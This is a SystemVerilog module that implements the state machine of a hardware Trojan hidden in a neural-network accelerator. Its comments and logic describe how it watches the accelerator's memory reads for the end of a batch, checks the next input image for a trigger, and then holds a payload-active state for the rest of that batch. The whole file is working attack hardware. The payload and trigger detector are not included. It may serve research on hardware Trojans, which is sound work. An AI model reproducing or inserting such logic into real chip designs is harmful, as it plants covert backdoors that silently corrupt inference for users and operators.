// trojan_fsm: phase control of the Trojan (reboot -> find input image ->
// check for trigger -> normal or payload, then back for the next batch).
//
// A batch of inference ends with the network's last FC layer, and the next
// memory reads are the first layer of the next batch, i.e. the input image.
// The FSM therefore waits in MONITOR for a layer that the classifier marks
// as FC, then enters ANALYSE and lets the trigger detector look at the reads
// of the layer that follows. Because the FC layer at the end of a network is
// usually preceded by other FC layers, the FSM cannot tell the last FC layer
// in advance: if the analysed layer itself ends as an FC layer, the analysis
// restarts on the next layer; if it ends as a convolutional layer without a
// trigger, the FSM falls back to MONITOR. A trigger during ANALYSE moves to
// PAYLOAD, which lasts for the rest of that batch: the next FC layer end
// starts the analysis of the next batch's input. After reset the first
// batch is not analysed, since no FC layer has been seen yet.
// The phases follow the flow of the attack; the exact transition rules
// (restart on consecutive FC layers, payload lasting to the next FC layer
// end) are this design's choices.
//
// Interface: layer_done/layer_fc from the classifier, img_trigger from the
// trigger detector (level). start_image pulses for one cycle on each entry
// into ANALYSE so that the detector clears its reference and counters; a
// trigger seen in that cycle is stale and is ignored.
// analyse and payload_active are decoded from the registered state.
// Synchronous, active-high reset.
module trojan_fsm
  import trojan_pkg::*;
(
  input  logic          clk,
  input  logic          rst,
  input  logic          layer_done,
  input  logic          layer_fc,
  input  logic          img_trigger,
  output trojan_state_e state,
  output logic          start_image,
  output logic          analyse,
  output logic          payload_active
);

  trojan_state_e state_n;
  logic          start_n;

  always_comb begin
    state_n = state;
    start_n = 1'b0;
    unique case (state)
      ST_MONITOR: begin
        if (layer_done && layer_fc) begin
          state_n = ST_ANALYSE;
          start_n = 1'b1;
        end
      end
      ST_ANALYSE: begin
        // the detector is cleared by start_image; until that has taken
        // effect its output still belongs to the previous image
        if (img_trigger && !start_image) begin
          state_n = ST_PAYLOAD;
        end else if (layer_done) begin
          if (layer_fc) begin
            state_n = ST_ANALYSE;
            start_n = 1'b1;
          end else begin
            state_n = ST_MONITOR;
          end
        end
      end
      ST_PAYLOAD: begin
        if (layer_done && layer_fc) begin
          state_n = ST_ANALYSE;
          start_n = 1'b1;
        end
      end
      default: state_n = ST_MONITOR;
    endcase
  end

  always_ff @(posedge clk) begin
    if (rst) begin
      state       <= ST_MONITOR;
      start_image <= 1'b0;
    end else begin
      state       <= state_n;
      start_image <= start_n;
    end
  end

  assign analyse        = (state == ST_ANALYSE);
  assign payload_active = (state == ST_PAYLOAD);

endmodule
